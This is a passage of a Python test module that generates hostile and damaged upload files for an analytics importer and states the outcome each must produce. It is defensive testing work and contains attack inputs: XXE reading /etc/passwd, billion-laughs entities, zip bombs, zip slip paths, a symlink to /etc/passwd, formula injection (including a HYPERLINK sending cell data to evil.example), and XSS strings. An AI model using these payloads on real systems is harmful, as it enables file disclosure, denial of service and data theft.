"""A corpus of hostile and careless files, made on the fly, each with the outcome it must have.

The categories follow ../shared/research/PITFALLS.md and issue 13: empty and cut files, renamed binaries,
wrong encodings, very wide and very long lines, NUL bytes, formulas and HTML, names that try to escape or
paint the terminal, zip bombs, zip slip, symlinks, nested and fanned-out archives, workbooks that try to
exhaust the reader or reach outside, and values no export can hold.

Each case names the file it uploads, the bytes, and what must happen: refused with a sentence (and the
store unchanged), or imported with exactly so many rows new and left out. `python tests/hostile_corpus.py
DIR` writes the corpus to a folder, to try by hand in the dashboard.
"""

from __future__ import annotations

import codecs
import gzip
import io
import re
import stat
import struct
import sys
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

FIXTURES = Path(__file__).resolve().parent / "fixtures"
X_NAME = "account_analytics_content_2026-07-06_2026-08-02.csv"
X_CONTENT = (FIXTURES / "x" / X_NAME).read_bytes()
X_HEADER, _, X_BODY = X_CONTENT.partition(b"\n")
X_ROWS = 4  # the fixture's four posts; its 'status/undefined' line is no post and is dropped
CHANNEL = "Content 2026-05-18_2026-08-16 My Channel"


@dataclass(frozen=True)
class Outcome:
    """What one upload must give: a status per result, and for imports the exact row counts."""

    status: str  # rejected | imported | skipped
    error: str | re.Pattern[str] | None = None  # rejected: the whole sentence, or a pattern it matches
    rows_new: int = 0
    rows_rejected: int = 0
    reason: str | None = None  # imported: a row rejection's reason must contain this


@dataclass(frozen=True)
class Case:
    name: str
    file: str  # the name the upload carries
    make: Callable[[], bytes]
    outcomes: tuple[Outcome, ...]  # one per result (an archive gives one per member)


def refused(error: str | re.Pattern[str]) -> tuple[Outcome]:
    return (Outcome("rejected", error),)


def imported(new: int, left_out: int = 0, reason: str | None = None) -> tuple[Outcome]:
    return (Outcome("imported", rows_new=new, rows_rejected=left_out, reason=reason),)


def pattern(text: str) -> re.Pattern[str]:
    return re.compile(text, re.DOTALL)


# ---------------------------------------------------------------------------------------------
# Makers


def x_rows(*rows: str) -> bytes:
    """An X content export with these data lines (ids and texts chosen by the case)."""
    return X_HEADER + b"\n" + "".join(r + "\n" for r in rows).encode()


def x_row(
    post_id: int, text: str = "Flood kits packed", impressions: str = "1520", day: str = "Sat, Aug 1, 2026"
) -> str:
    return (
        f'{post_id},"{day}","{text}",https://x.com/ngo_org/status/{post_id},{impressions},40,95,3,2,1,4,9,6,20,11,2,0'
    )


def zipped(members: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def zip_with_symlink() -> bytes:
    """A member that is a symbolic link to /etc/passwd, as `zip --symlinks` stores it."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        link = zipfile.ZipInfo("Table data.csv")
        link.create_system = 3  # Unix
        link.external_attr = (stat.S_IFLNK | 0o777) << 16
        archive.writestr(link, "/etc/passwd")
        archive.writestr(X_NAME, X_CONTENT)
    return buffer.getvalue()


def zip_bomb() -> bytes:
    """200 MB of zeros in about 200 kB: one member far past the compression ratio allowed."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("Table data.csv", "w", force_zip64=True) as sink:
            block = b"0" * (1 << 20)
            for _ in range(200):
                sink.write(block)
    return buffer.getvalue()


def zip_that_lies() -> bytes:
    """A member whose directory entry says 100 bytes but which unpacks to 3 MB."""
    data = zipped({X_NAME: X_HEADER + b"\n" + b"1," * 1_500_000})
    # Patch the uncompressed size in both the local header and the central directory.
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    patched = bytearray(data)
    struct.pack_into("<I", patched, local + 22, 100)
    struct.pack_into("<I", patched, central + 24, 100)
    return bytes(patched)


def zip_of_many(count: int) -> bytes:
    return zipped({f"part-{i:05d}.csv": b"Date,Views\n2026-01-01,3\n" for i in range(count)})


def nested_zips(depth: int) -> bytes:
    data = X_CONTENT
    name = X_NAME
    for level in range(depth):
        data = zipped({name: data})
        name = f"level-{level}.zip"
    return data


def encrypted_zip() -> bytes:
    """A member flagged as encrypted (traditional PKWARE), which Python cannot read without a password."""
    data = bytearray(zipped({X_NAME: X_CONTENT}, zipfile.ZIP_STORED))
    local = data.find(b"PK\x03\x04")
    central = data.find(b"PK\x01\x02")
    struct.pack_into("<H", data, local + 6, 1)
    struct.pack_into("<H", data, central + 8, 1)
    return bytes(data)


def damaged_zip() -> bytes:
    data = zipped({X_NAME: X_CONTENT * 20})
    return data[: len(data) // 2]


def flipped_zip() -> bytes:
    """A ZIP whose compressed bytes were damaged in transit (the CRC no longer matches)."""
    data = bytearray(zipped({X_NAME: X_CONTENT * 20}))
    start = data.find(X_NAME.encode()) + len(X_NAME) + 40
    for i in range(start, start + 40):
        data[i] ^= 0x55
    return bytes(data)


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/xl/workbook.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
    '<Override PartName="/xl/worksheets/sheet1.xml" '
    'ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/>'
    "</Types>"
)
ROOT_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" '
    'Target="xl/workbook.xml"/></Relationships>'
)
WORKBOOK = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" '
    'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships">'
    '<sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets>{extra}</workbook>'
)
WORKBOOK_RELS = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/>{extra}</Relationships>'
)
SHEET_NS = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'


def cell(ref: str, value: object) -> str:
    if isinstance(value, (int, float)):
        return f'<c r="{ref}"><v>{value}</v></c>'
    text = str(value).replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
    return f'<c r="{ref}" t="inlineStr"><is><t>{text}</t></is></c>'


def column(index: int) -> str:
    name = ""
    index += 1
    while index:
        index, rest = divmod(index - 1, 26)
        name = chr(65 + rest) + name
    return name


def sheet_xml(rows: list[list[object]], head: str = "", tail: str = "") -> str:
    body = "".join(
        f'<row r="{r + 1}">' + "".join(cell(f"{column(c)}{r + 1}", v) for c, v in enumerate(row)) + "</row>"
        for r, row in enumerate(rows)
    )
    return f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {SHEET_NS}>{head}<sheetData>{body}</sheetData>{tail}</worksheet>'


def xlsx(sheet: str, extra: dict[str, str] | None = None, workbook: str = "", rels: str = "") -> bytes:
    members = {
        "[Content_Types].xml": CONTENT_TYPES,
        "_rels/.rels": ROOT_RELS,
        "xl/workbook.xml": WORKBOOK.format(extra=workbook),
        "xl/_rels/workbook.xml.rels": WORKBOOK_RELS.format(extra=rels),
        "xl/worksheets/sheet1.xml": sheet,
        **(extra or {}),
    }
    return zipped({name: text.encode() for name, text in members.items()})


def x_table() -> list[list[object]]:
    """The X fixture as spreadsheet rows (numbers as numbers)."""
    import csv

    rows: list[list[object]] = []
    for number, row in enumerate(csv.reader(io.StringIO(X_CONTENT.decode()))):
        rows.append([int(v) if number and v.isdigit() and len(v) < 12 else v for v in row])
    return rows


def xlsx_with_external_link() -> bytes:
    """An X export re-saved with a formula that points at another workbook on a server (an external link)."""
    link = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1">'
        '<sheetNames><sheetName val="Sheet1"/></sheetNames></externalBook></externalLink>'
    )
    link_rels = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath" '
        'Target="http://127.0.0.1:9/steal.xlsx" TargetMode="External"/></Relationships>'
    )
    rows = x_table()
    body = sheet_xml(rows)
    # The first post's impressions come from the linked workbook; its cached value is what was last seen.
    body = body.replace('<c r="E2"><v>1520</v></c>', '<c r="E2"><f>[1]Sheet1!A1</f><v>1520</v></c>')
    return xlsx(
        body,
        {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": link_rels},
        workbook='<externalReferences><externalReference r:id="rId2"/></externalReferences>',
        rels='<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        'externalLink" Target="externalLinks/externalLink1.xml"/>',
    )


def xlsx_laughs() -> bytes:
    entities = "".join(
        f'<!ENTITY lol{i + 1} "{("&lol" + str(i) + ";") * 10 if i else "&lol;" * 10}">' for i in range(9)
    )
    sheet = (
        f'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">{entities}]><worksheet {SHEET_NS}>'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    )
    return xlsx(sheet)


def xlsx_external_entity() -> bytes:
    sheet = (
        '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY secret SYSTEM "file:///etc/passwd">]>'
        f'<worksheet {SHEET_NS}><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>&secret;</t></is></c>'
        "</row></sheetData></worksheet>"
    )
    return xlsx(sheet)


def xlsx_far_corner() -> bytes:
    return xlsx(
        f'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet {SHEET_NS}>'
        '<dimension ref="A1:XFD1048576"/><sheetData>'
        '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>'
    )


def xlsx_shared_strings_bomb() -> bytes:
    """A sheet of one cell, and 2.1 million shared strings the reader would load whole (each different,
    so the part is not compressed enough to be refused as a zip bomb first)."""
    strings = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="2100000" uniqueCount="2100000">'
        + "".join(f"<si><t>{i}</t></si>" for i in range(2_100_000))
        + "</sst>"
    )
    return xlsx(sheet_xml([["Date", "Views"]]), {"xl/sharedStrings.xml": strings})


def xlsx_uncounted_cells() -> bytes:
    """No dimension, 2.4 million small cells: the cells counted, not the declared size, refuse it."""
    row = "".join(f"<c><v>{i}</v></c>" for i in range(200))
    rows = "".join(f"<row>{row}</row>" for _ in range(12_000))
    return xlsx(f'<?xml version="1.0"?><worksheet {SHEET_NS}><sheetData>{rows}</sheetData></worksheet>')


def xlsx_formula_text() -> bytes:
    rows = x_table()
    rows[1][2] = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    rows[2][2] = "<script>alert(1)</script>"
    return xlsx(sheet_xml(rows))


def xlsx_truncated() -> bytes:
    data = xlsx(sheet_xml(x_table()))
    return data[: len(data) * 2 // 3]


def ole_header() -> bytes:
    """The first bytes of an OLE compound file (old .xls, or an XLSX encrypted with a password)."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"\xff" * 3584


def png() -> bytes:
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00"))
        + chunk(b"IEND", b"")
    )


def elf() -> bytes:
    return b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\x00\x3e\x00" + bytes(4000)


def duckdb_file() -> bytes:
    return bytes(8) + b"DUCK" + bytes(4084)


def sqlite_file() -> bytes:
    return b"SQLite format 3\x00" + bytes(4080)


def html_table() -> bytes:
    """What 'Export to Excel' gives from many web tools: an HTML table saved as .xls."""
    return (
        b"<html><head><meta charset='utf-8'></head><body><table><tr><th>Date</th><th>Views</th></tr>"
        b"<tr><td>2026-08-01</td><td>40</td></tr></table></body></html>"
    )


def wide_header() -> bytes:
    return (
        ",".join(f"column {i}" for i in range(10_000)) + "\n" + ",".join("1" for _ in range(10_000)) + "\n"
    ).encode()


def long_line_row() -> bytes:
    """A post whose text is 5 MB long, between two ordinary posts."""
    return x_rows(x_row(2083481738146849459), x_row(2083481738146849460, "x" * 5_000_000), x_row(2083481738146849461))


def long_line_alone() -> bytes:
    return b"a" * 5_000_000


def nul_in_row() -> bytes:
    return x_rows(x_row(2083481738146849459), x_row(2083481738146849460, "kits\x00packed"), x_row(2083481738146849461))


def nul_everywhere() -> bytes:
    return bytes(X_CONTENT[i // 2] if i % 3 else 0 for i in range(len(X_CONTENT) * 2))


def encoded(codec: str, bom: bytes = b"") -> Callable[[], bytes]:
    # Characters the codec lacks (the fixture's emoji in cp1252) become '?', as a re-save makes them.
    return lambda: bom + X_CONTENT.decode().replace("Flood kits", "Flood kits für Pune").encode(codec, "replace")


def gb18030_text() -> bytes:
    return x_rows(x_row(2083481738146849459, "洪水救援包已打包")).decode().encode("gb18030")


def overlong_utf8() -> bytes:
    return x_rows(x_row(2083481738146849459)).replace(b"Flood", b"Fl\xc0\xafod")


def semicolons() -> bytes:
    """A European spreadsheet's re-save: semicolons between fields."""
    text = X_CONTENT.decode()
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter=";", lineterminator="\r\n")
    for row in csv.reader(io.StringIO(text)):
        writer.writerow(row)
    return out.getvalue().encode()


def tabs_utf16() -> bytes:
    """Excel's 'Unicode text': tab-separated UTF-16 with a byte-order mark."""
    import csv

    out = io.StringIO()
    writer = csv.writer(out, delimiter="\t", lineterminator="\r\n")
    for row in csv.reader(io.StringIO(X_CONTENT.decode())):
        writer.writerow(row)
    return codecs.BOM_UTF16_LE + out.getvalue().encode("utf-16-le")


def swallowing_quote() -> bytes:
    return x_rows(
        x_row(2083481738146849459),
        '2083481738146849460,"Sat, Aug 1, 2026","an opening quote never closed,https://x.com/ngo_org/status/1,1,1,1,1,1,1,1,1,1,1,1,1,1',
        x_row(2083481738146849461),
        x_row(2083481738146849462),
    )


def youtube_videos(*rows: str) -> bytes:
    header = "Content,Video title,Video publish time,Views,Watch time (hours),Thumbnail impressions\n"
    return (header + "".join(r + "\n" for r in rows)).encode()


def x_days(*days: str) -> bytes:
    """An X account Overview export, one line per day."""
    return (
        "Date,Impressions,Engagements,New follows,Unfollows\n" + "".join(f'"{d}",100,5,1,0\n' for d in days)
    ).encode()


def encrypted_xlsx() -> bytes:
    """An XLSX saved with a password: an OLE file whose directory names an EncryptedPackage stream."""
    return ole_header()[:1024] + "EncryptedPackage".encode("utf-16-le") + bytes(3000)


def xml_spreadsheet() -> bytes:
    return (
        b'<?xml version="1.0"?>\n<?mso-application progid="Excel.Sheet"?>\n'
        b'<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet"><Worksheet ss:Name="Sheet1"><Table>'
        b'<Row><Cell><Data ss:Type="String">Date</Data></Cell></Row></Table></Worksheet></Workbook>'
    )


# An entity naming a file on this machine: the parser must not read it into the post.
FEED_XXE = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]><rss version="2.0">'
    b"<channel><title>T</title><item><title>&x;</title><link>https://e.org/a</link></item></channel></rss>"
)
# Ten levels of ten references: a billion "a"s if expanded.
FEED_LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE rss [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %s "%s">' % (bytes([98 + i]), b"&%s;" % bytes([97 + i]) * 10) for i in range(9))
    + b']><rss version="2.0"><channel><title>T</title><item><title>&j;</title><link>https://e.org/a</link>'
    b"</item></channel></rss>"
)


def rss_feed() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?><rss version="2.0"><channel><title>Clean River blog</title>'
        b"<item><title>Flood kits</title><link>https://example.org/kits</link></item></channel></rss>"
    )


RAZORPAY = "id,amount,currency,status,method,amount_refunded,captured,email,created_at\n"
TIME_LOG = "date,person,platform,activity,minutes,campaign,note\n"


def razorpay(*rows: str) -> bytes:
    return (RAZORPAY + "".join(r + "\n" for r in rows)).encode()


def time_log(*rows: str) -> bytes:
    return (TIME_LOG + "".join(r + "\n" for r in rows)).encode()


# ---------------------------------------------------------------------------------------------
# The corpus

NOT_AN_EXPORT = "this is a binary file, not a text export."
DAMAGED_MEMBER = "is damaged (its bytes do not unpack to what the archive says); download the archive again."


def unsafe(why: str) -> str:
    return (
        f"data.xlsx: the spreadsheet could not be read safely ({why}). "
        "Open it in a spreadsheet program and save the sheet you need as CSV, then import that."
    )


CASES: list[Case] = [
    # Empty and cut
    Case(
        "empty",
        "export.csv",
        lambda: b"",
        refused("export.csv: the file is empty (0 bytes). Download the export again."),
    ),
    Case("whitespace only", "export.csv", lambda: b" \r\n\t\n\n   \n", refused("export.csv: the file is empty.")),
    Case("byte-order mark only", "export.csv", lambda: codecs.BOM_UTF8, refused("export.csv: the file is empty.")),
    Case(
        "header only",
        X_NAME,
        lambda: X_HEADER + b"\n",
        refused(pattern(re.escape(X_NAME) + ": has the header of .* but no data rows; there is nothing to import.")),
    ),
    Case(
        "header and blank lines",
        X_NAME,
        lambda: X_HEADER + b"\n\n\n\r\n",
        refused(pattern(re.escape(X_NAME) + ": has the header of .* but no data rows; there is nothing to import.")),
    ),
    Case("cut inside a quoted field", X_NAME, lambda: X_CONTENT[: X_CONTENT.find(b"Thank you") + 4], imported(2, 1)),
    Case(
        "cut in the middle of a row",
        X_NAME,
        lambda: X_CONTENT[: X_CONTENT.rfind(b",880,") + 3],
        imported(2, 1, "fewer columns"),
    ),
    Case("a quote that swallows the next record", X_NAME, swallowing_quote, imported(2, 2, "2 records left out")),
    Case(
        "unknown columns",
        "export.csv",
        lambda: b"foo,bar,baz\n1,2,3\n",
        refused(pattern(r"export\.csv: .*not .*recognis.*")),
    ),
    Case(
        "a header of 10,000 columns",
        "export.csv",
        wide_header,
        refused(pattern(r"export\.csv: not an export this product recognises \(its first columns are 'column 0', .*")),
    ),
    Case(
        "a 5 MB line and nothing else",
        "export.csv",
        long_line_alone,
        refused(
            "export.csv: not an export this product recognises: its first line is longer than 256 kB, so it holds no header of columns."
        ),
    ),
    Case("a 5 MB post text", X_NAME, long_line_row, imported(2, 1, "is longer than 100,000 characters")),
    Case(
        "a NUL byte in a row",
        X_NAME,
        nul_in_row,
        refused(
            f"{X_NAME}: this is text with NUL bytes (zeros) on line 3, which no export writes: the file is damaged. Download it again."
        ),
    ),
    Case(
        "NUL padding after the last row",
        X_NAME,
        lambda: X_CONTENT + bytes(5000),
        refused(
            f"{X_NAME}: this is text with NUL bytes (zeros) on line 8, which no export writes: the file is damaged. Download it again."
        ),
    ),
    Case(
        "a NUL byte far down a long file",
        X_NAME,
        lambda: x_rows(*[x_row(2083481738146849459 + i) for i in range(200)]) + b"\x00\n",
        refused(
            f"{X_NAME}: this is text with NUL bytes (zeros) on line 202, which no export writes: the file is damaged. Download it again."
        ),
    ),
    Case(
        "only zeros",
        X_NAME,
        lambda: bytes(4096),
        refused(
            f"{X_NAME}: this is a file of NUL bytes (zeros), not a text export; the download or copy failed. Download it again."
        ),
    ),
    Case(
        "NUL bytes everywhere", X_NAME, nul_everywhere, refused(f"{X_NAME}: this is a binary file, not a text export.")
    ),
    # Meta's own exports name a column twice; the first of the two is read (tests check the value).
    Case("a column named twice", "Totals.csv", lambda: b"Date,Views,Views\n2026-08-01,3,4\n", imported(1)),
    # Binaries with the wrong name
    Case("PNG renamed .csv", "chart.csv", png, refused("chart.csv: this is a PNG image, not a data export.")),
    Case(
        "PDF renamed .xlsx",
        "report.xlsx",
        lambda: b"%PDF-1.4\n%%EOF\n",
        refused("report.xlsx: this is a PDF document, not a data export."),
    ),
    Case("ELF program renamed .csv", "export.csv", elf, refused("export.csv: this is a program, not a data export.")),
    Case(
        "Windows program renamed .csv",
        "export.csv",
        lambda: b"MZ\x90\x00" + bytes(4000),
        refused("export.csv: this is a Windows program, not a data export."),
    ),
    Case("DuckDB store renamed .csv", "export.csv", duckdb_file, refused(f"export.csv: {NOT_AN_EXPORT}")),
    Case(
        "SQLite file renamed .csv",
        "export.csv",
        sqlite_file,
        refused("export.csv: this is an SQLite database, not a data export."),
    ),
    Case(
        "JPEG renamed .xlsx",
        "photo.xlsx",
        lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(3000),
        refused("photo.xlsx: this is a JPEG image, not a data export."),
    ),
    Case(
        "gzip renamed .csv",
        X_NAME,
        lambda: gzip.compress(X_CONTENT),
        refused(f"{X_NAME}: this is a gzip archive; only ZIP archives can be imported."),
    ),
    Case(
        "random bytes renamed .xlsx",
        "data.xlsx",
        lambda: bytes((i * 7919) % 251 for i in range(20_000)),
        refused(f"data.xlsx: {NOT_AN_EXPORT}"),
    ),
    Case(
        "old .xls that is not a workbook",
        "data.xls",
        ole_header,
        refused(
            "data.xls: this is not a readable Excel workbook; it is damaged, or not a workbook at all. Download it again, or save it again as XLSX or CSV."
        ),
    ),
    Case(
        "XLSX saved with a password",
        "data.xlsx",
        encrypted_xlsx,
        refused(
            "data.xlsx: the workbook is protected with a password. Open it, remove the password (or save the sheet as CSV) and import that."
        ),
    ),
    Case(
        "HTML table saved as .xls",
        "export.xls",
        html_table,
        refused(
            "export.xls: this is a web page (HTML), not a data export. If the tool offered 'Export to Excel', export as CSV instead, or open the file in a spreadsheet program and save it as CSV."
        ),
    ),
    Case(
        "Excel 2003 XML spreadsheet",
        "export.xls",
        xml_spreadsheet,
        refused(
            "export.xls: this is an Excel 2003 XML spreadsheet; open it in a spreadsheet program and save it as CSV or XLSX."
        ),
    ),
    # A feed under any name is a feed: a blog's one entry with a link is a post (its id is the link).
    Case("an RSS feed named .csv", "feed.csv", rss_feed, imported(1)),
    Case("a feed whose title is an external entity (XXE)", "xxe.xml.txt", lambda: FEED_XXE, imported(1)),
    Case("a feed of nested entities (billion laughs)", "laughs.xml.txt", lambda: FEED_LAUGHS, imported(1)),
    Case(
        "an RSS feed with no entries",
        "feed.xml.txt",
        lambda: b'<?xml version="1.0"?><rss version="2.0"><channel><title>Empty</title></channel></rss>',
        refused("feed.xml.txt: the feed holds no entries."),
    ),
    Case(
        "a feed cut short before its first entry",
        "feed.rss.txt",
        lambda: b'<?xml version="1.0"?><rss version="2.0"><channel><title>Cut',
        refused("feed.rss.txt: the feed cannot be read (it is not well-formed XML and holds no entries)."),
    ),
    Case("a CSV renamed .xlsx", X_NAME.replace(".csv", ".xlsx"), lambda: X_CONTENT, imported(X_ROWS)),
    Case("a ZIP renamed .csv", X_NAME, lambda: zipped({X_NAME: X_CONTENT}), imported(X_ROWS)),
    # Encodings
    Case("UTF-8 with a byte-order mark", X_NAME, lambda: codecs.BOM_UTF8 + X_CONTENT, imported(X_ROWS)),
    Case("two byte-order marks", X_NAME, lambda: codecs.BOM_UTF8 * 2 + X_CONTENT, imported(X_ROWS)),
    Case("UTF-16 LE with a byte-order mark", X_NAME, encoded("utf-16-le", codecs.BOM_UTF16_LE), imported(X_ROWS)),
    Case("UTF-16 BE with a byte-order mark", X_NAME, encoded("utf-16-be", codecs.BOM_UTF16_BE), imported(X_ROWS)),
    Case("UTF-16 LE without a byte-order mark", X_NAME, encoded("utf-16-le"), imported(X_ROWS)),
    Case("UTF-32 with a byte-order mark", X_NAME, encoded("utf-32"), imported(X_ROWS)),
    Case("Windows-1252", X_NAME, encoded("cp1252"), imported(X_ROWS)),
    Case("GB18030", X_NAME, gb18030_text, imported(1)),
    Case("overlong UTF-8", X_NAME, overlong_utf8, imported(1)),
    Case("semicolons between fields", X_NAME, semicolons, imported(X_ROWS)),
    Case("Excel 'Unicode text' (tabs, UTF-16)", X_NAME.replace(".csv", ".txt"), tabs_utf16, imported(X_ROWS)),
    Case("CR line endings only", X_NAME, lambda: X_CONTENT.replace(b"\n", b"\r"), imported(X_ROWS)),
    Case("CRLF and LF mixed", X_NAME, lambda: X_CONTENT.replace(b"\n", b"\r\n", 2), imported(X_ROWS)),
    # Formulas and HTML are text: stored as written, shown escaped, neutralised on export
    Case(
        "formulas and HTML in post texts",
        X_NAME,
        lambda: x_rows(
            x_row(2083481738146849459, '=HYPERLINK(""http://evil.example"",""Click"")'),
            x_row(2083481738146849460, "+cmd|' /C calc'!A0"),
            x_row(2083481738146849461, "<img src=x onerror=alert(1)>"),
            x_row(2083481738146849462, "[click](javascript:alert(1))"),
        ),
        imported(4),
    ),
    Case(
        "a formula in a count",
        X_NAME,
        lambda: x_rows(x_row(2083481738146849459), x_row(2083481738146849460, impressions="=1+1")),
        imported(1, 1, "=1+1"),
    ),
    Case(
        "HTML in the header",
        "export.csv",
        lambda: b"<script>alert(1)</script>,<b>Views</b>\n1,2\n",
        refused(
            pattern(
                r"export\.csv: not an export this product recognises \(its first columns are '<script>alert\(1\)</script>', '<b>Views</b>'\)\. .*"
            )
        ),
    ),
    # Names
    Case("path traversal in the name", "../../../etc/cron.d/" + X_NAME, lambda: X_CONTENT, imported(X_ROWS)),
    Case("a Windows path as the name", "C:\\Users\\asha\\Downloads\\" + X_NAME, lambda: X_CONTENT, imported(X_ROWS)),
    Case(
        "a newline in the name",
        "export\n[ok] imported 1000 rows.csv",
        png,
        refused("export[ok] imported 1000 rows.csv: this is a PNG image, not a data export."),
    ),
    Case(
        "terminal escapes in the name",
        "\x1b[2J\x1b[31mexport.csv",
        png,
        refused("[2J[31mexport.csv: this is a PNG image, not a data export."),
    ),
    Case(
        "a right-to-left override in the name",
        "report\u202evsc.exe",
        png,
        refused("report\u202evsc.exe: this is a PNG image, not a data export."),
    ),
    Case("a NUL in the name", "export\x00.csv", png, refused("export.csv: this is a PNG image, not a data export.")),
    Case(
        "a name of 5,000 characters",
        "a" * 5000 + ".csv",
        png,
        refused("a" * 200 + ": this is a PNG image, not a data export."),
    ),
    Case("an empty name", "", png, refused("upload: this is a PNG image, not a data export.")),
    Case(
        "Markdown in the name",
        "[click](javascript:alert(1)).csv",
        png,
        refused("[click](javascript:alert(1)).csv: this is a PNG image, not a data export."),
    ),
    # Archives
    Case(
        "zip bomb",
        "exports.zip",
        zip_bomb,
        refused(
            pattern(
                r"exports\.zip: 'Table data\.csv' would unpack to 210 MB from \d+ kB; archives compressed that much are refused \(zip bomb\)\."
            )
        ),
    ),
    Case("a ZIP whose sizes lie", "exports.zip", zip_that_lies, refused(f"exports.zip/{X_NAME}: {DAMAGED_MEMBER}")),
    Case(
        "zip slip",
        "exports.zip",
        lambda: zipped({"../../../../tmp/evil/" + X_NAME: X_CONTENT}),
        (Outcome("imported", rows_new=X_ROWS),),
    ),
    Case(
        "an absolute member path",
        "exports.zip",
        lambda: zipped({"/etc/cron.d/" + X_NAME: X_CONTENT}),
        (Outcome("imported", rows_new=X_ROWS),),
    ),
    Case(
        "a symbolic link in a ZIP",
        "exports.zip",
        zip_with_symlink,
        (
            Outcome(
                "rejected",
                "exports.zip/Table data.csv: is a symbolic link, not a file; links in archives are not followed.",
            ),
            Outcome("imported", rows_new=X_ROWS),
        ),
    ),
    Case(
        "10,000 members",
        "exports.zip",
        lambda: zip_of_many(10_000),
        refused("exports.zip: the archive holds 10000 files; at most 2000 are read."),
    ),
    Case(
        "archives nested 3 deep",
        "exports.zip",
        lambda: nested_zips(3),
        refused(
            "exports.zip: 'level-1.zip/level-0.zip' is a ZIP archive inside an archive inside an archive; archives are read at most 2 levels deep. Unpack it and import the exports inside."
        ),
    ),
    Case(
        "a fan-out of archives",
        "exports.zip",
        lambda: zipped({f"inner-{i}.zip": zip_of_many(60) for i in range(40)}),
        refused(
            "exports.zip: the archive and the archives inside it hold over 2000 files together; at most that many are read. Import the exports inside it one by one."
        ),
    ),
    Case("archives nested 2 deep", "exports.zip", lambda: nested_zips(2), (Outcome("imported", rows_new=X_ROWS),)),
    Case(
        "an encrypted member",
        "exports.zip",
        encrypted_zip,
        refused(
            f"exports.zip/{X_NAME}: is protected with a password; unpack the archive yourself and import the files inside."
        ),
    ),
    Case(
        "a ZIP cut in half",
        "exports.zip",
        damaged_zip,
        refused("exports.zip: the ZIP archive is damaged or incomplete (File is not a zip file). Download it again."),
    ),
    Case("a ZIP damaged in transit", "exports.zip", flipped_zip, refused(f"exports.zip/{X_NAME}: {DAMAGED_MEMBER}")),
    Case("an empty ZIP", "exports.zip", lambda: zipped({}), refused("exports.zip: the ZIP archive holds no files.")),
    Case(
        "a 7-Zip archive",
        "exports.7z",
        lambda: b"7z\xbc\xaf\x27\x1c" + bytes(200),
        refused("exports.7z: this is a 7-Zip archive; only ZIP archives can be imported."),
    ),
    Case(
        "a RAR archive",
        "exports.rar",
